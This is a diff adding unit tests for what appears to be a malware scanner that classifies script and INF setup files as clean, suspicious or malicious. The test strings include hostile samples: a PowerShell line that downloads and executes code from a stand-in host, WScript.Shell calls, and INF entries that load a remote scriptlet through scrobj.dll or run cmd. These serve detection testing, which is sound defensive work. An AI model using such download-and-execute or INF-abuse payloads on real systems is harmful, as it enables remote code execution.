@@ -67,6 +67,34 @@ public sealed class ShortcutTests
     }
 
     [Theory]
+    [InlineData("/*\n[Version]\n[a]\n*/ new ActiveXObject('WScript.Shell').Run('calc');", "a.js")]
+    [InlineData("[Version]\n[string]\nIEX(New-Object Net.WebClient).DownloadString('http://a.example/')", "a.ps1")]
+    [InlineData("<!--\n[Version]\n[x]\n--><html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>", "a.html")]
+    public void Complete_ScriptWithLinesOfSections_IsNoSetupInformation(string text, string name)
+    {
+        var alone = Judged.Of(text);
+
+        alone.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(alone));
+        Judged.Of(ZipMaker.Pack((name, text))).Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
+    }
+
+    [Fact]
+    public void Complete_SetupInformationWithNameOfAScript_IsNoSetupInformation() =>
+        Judged.Of(ZipMaker.Pack(("a.js", "[Version]\n[a]\nnew ActiveXObject('WScript.Shell').Run('calc')"))).Verdict
+            .ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
+
+    [Fact]
+    public void Complete_LargeSetupInformation_IsUnable()
+    {
+        var head = "[Version]\nSignature=x\n[Strings]\n";
+        string TextOf(int length) => head + string.Concat(Enumerable.Repeat("a = 1\n", (length - head.Length) / 6));
+
+        Judged.Of(TextOf(1024 * 1024)).Verdict.ShouldBe(Verdict.Clean);
+        Judged.Of(TextOf((1024 * 1024) + 100)).Verdict.ShouldBe(Verdict.Unable);
+        Judged.Of(TextOf(3 * 1024 * 1024)).Verdict.ShouldBe(Verdict.Unable);
+    }
+
+    [Theory]
     [InlineData("[version]\nSignature=$chicago$\n[DefaultInstall_SingleUser]\nUnRegisterOCXs=U\n[U]\n"
         + "%11%\\scrobj.dll,NI,http://a.example/a.sct\n", true)]
     [InlineData("; a\r\n[Version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nRunPreSetupCommands = A:1, B\r\n[b]\r\ncmd /c x\r\n", true)]
